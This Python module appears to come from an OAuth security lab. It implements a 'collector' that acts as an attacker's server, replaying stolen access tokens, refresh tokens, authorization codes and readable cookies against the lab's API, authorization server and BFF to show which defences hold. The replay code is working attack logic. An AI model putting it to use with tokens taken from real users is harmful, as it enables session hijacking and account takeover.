"""How the collector uses each kind of loot: one plain HTTP request per attempt, to the API, the AS or a BFF, the way an
attacker's server would (it has no browser, no cookie jar, no DPoP key). Only the configured origins are ever called.

Each use returns (what it tried, status, the answer's JSON) and may change the item (a rotated refresh token, the pair
a redeemed code gave), so the next attempt uses what the last one won.
"""

import requests
from flask import current_app

TIMEOUT = 5
METADATA = "/.well-known/oauth-authorization-server"


def _json(response):
    try:
        body = response.json()
    except ValueError:
        return {}
    return body if isinstance(body, dict) else {}


def _token_endpoint():
    """The AS's token endpoint from its metadata (RFC 8414), kept once found."""
    app = current_app._get_current_object()
    if "collector.token_endpoint" not in app.extensions:
        metadata = _json(requests.get(app.config["ISSUER_ORIGIN"] + METADATA, timeout=TIMEOUT))
        app.extensions["collector.token_endpoint"] = metadata["token_endpoint"]
    return app.extensions["collector.token_endpoint"]


def use_access_token(item):
    """The API's `me` with the stolen token as Bearer (a DPoP-bound one too: the attacker lacks the key)."""
    answer = requests.get(current_app.config["API_ORIGIN"] + "/api/jwt/me",
                          headers={"Authorization": f"Bearer {item['access_token']}"}, timeout=TIMEOUT)
    return "GET /api/jwt/me", answer.status_code, _json(answer)


def _token_request(form, how):
    answer = requests.post(_token_endpoint(), data=form, timeout=TIMEOUT)
    return how, answer.status_code, _json(answer)


def use_refresh_token(item):
    """A new pair from the stolen refresh token (a public client's needs no secret); the attacker keeps the new one."""
    how, status, body = _token_request({"grant_type": "refresh_token", "refresh_token": item["refresh_token"],
                                        "client_id": item["client_id"]}, "POST token endpoint (refresh_token)")
    if status == 200 and "access_token" in body:
        item.update(access_token=body["access_token"], refresh_token=body.get("refresh_token", item["refresh_token"]))
    return how, status, body


def use_code(item):
    """§5.1.3: the code of the script's own silent flow, redeemed with the collector's verifier; then, once redeemed,
    the refresh token it gave (or, with none, its access token at the API)."""
    if item.get("refresh_token"):
        return use_refresh_token(item)
    if item.get("access_token"):
        return use_access_token(item)
    how, status, body = _token_request({
        "grant_type": "authorization_code", "code": item["code"], "redirect_uri": item["redirect_uri"],
        "client_id": item["client_id"], "code_verifier": item["verifier"],
    }, "POST token endpoint (authorization_code + the attacker's PKCE verifier)")
    if status == 200 and "access_token" in body:
        item.update(access_token=body["access_token"], refresh_token=body.get("refresh_token"))
    return how, status, body


def use_cookies(item):
    """The BFF's API with the cookies the script could read and the headers a server can forge (X-CSRF, Origin): only
    the HttpOnly session cookie is missing, which no script can read."""
    config = current_app.config
    site = item["site"].upper()
    headers = {"X-CSRF": "1", "Origin": config[f"FRONTEND_{site}_ORIGIN"]}
    if item.get("cookies"):
        headers["Cookie"] = item["cookies"]
    answer = requests.get(config[f"BFF_{site}_ORIGIN"] + "/bff/api/jwt/me", headers=headers, timeout=TIMEOUT)
    return "GET BFF /bff/api/jwt/me with the readable cookies", answer.status_code, _json(answer)


USES = {"access_token": use_access_token, "refresh_token": use_refresh_token, "code": use_code, "cookies": use_cookies}
